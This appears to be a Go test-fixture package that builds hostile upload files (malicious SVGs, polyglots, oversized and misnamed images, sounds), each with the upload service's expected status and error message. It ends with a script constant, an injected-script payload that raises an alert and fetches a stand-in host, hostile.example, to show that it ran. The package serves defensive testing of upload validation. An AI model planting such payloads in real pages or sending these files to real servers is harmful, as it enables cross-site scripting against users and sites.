// Package hostile makes files that an attacker would upload to harm a browser or a server, each with the expected answer. Tests
// send them; the browser tests open the accepted ones.
package hostile

import (
	"bytes"
	"fmt"
	"slices"
)

// File is an upload.
type File struct {
	// About describes the attack.
	About string
	// Field is image or sound.
	Field string
	// Name is the file name that the sender gives.
	Name string
	Data []byte
	// Status and Message are the answer; an accepted file has 200 and no message.
	Status  int
	Message string
}

// Files makes them all. Each is different from all others, so that a stored one is known by its content.
func Files() []File {
	files := slices.Concat(drawings(), pixels(), animations(), polyglots(), names(), Sounds())
	seen := map[string]int{}
	for i, f := range files {
		if !mark(&files[i], seen[string(f.Data)]) {
			panic("the same file twice: " + f.About)
		}
		seen[string(f.Data)]++
	}
	return files
}

// Small are files of each answer that are quickly made, for tests of what takes uploads: those of the readers take all [Files].
func Small() []File {
	large := picture("png of more than 10 MB", "a.png", joined(png(3, 2), make([]byte, 10<<20)), 413, largeImage)
	return append(slices.Concat(drawings(), polyglots(), misnamed(), names(), Sounds()), large)
}

// mark makes copies of an accepted file differ behind their end, where nobody reads.
func mark(f *File, copies int) bool {
	if f.Status != accepted || copies == 0 {
		return true
	}
	if bytes.HasPrefix(f.Data, []byte("<")) {
		return false
	}
	f.Data = append(slices.Clone(f.Data), fmt.Sprint("copy", copies)...)
	return true
}

const (
	accepted = 200

	damaged     = "The image is damaged."
	manyPixels  = "The image has more than 25 megapixels."
	manyFrames  = "The animation has too many frames."
	manyParts   = "The image is built in too many parts. Please save it again as a plain picture."
	onlyImages  = "Only PNG, JPEG, GIF and SVG images are accepted."
	largeImage  = "The image is larger than 10 MB."
	empty       = "The file is empty."
	brokenSVG   = "The SVG image is damaged."
	activeSVG   = "The SVG image holds scripts, entities or links to other places. Please save it as a plain drawing."
	complexSVG  = "The SVG image is too complex. Please save it with fewer shapes."
	onlySounds  = "Only MP3, M4A, AAC, OGG, WAV and WebM sounds are accepted."
	brokenSound = "The sound is damaged."
	largeSound  = "The sound is larger than 10 MB."
	video       = "The file holds a video. Only sounds are accepted here."
)

func mustEnd(extension, only string) string {
	return "The file's name must end in " + extension + ", which is what it holds. " + only
}

// script is what a hostile file would run: it reports to the page, the user and another server.
const script = `try{top.hostile=1}catch(e){};window.hostile=1;alert(1);fetch('http://hostile.example/ran');`
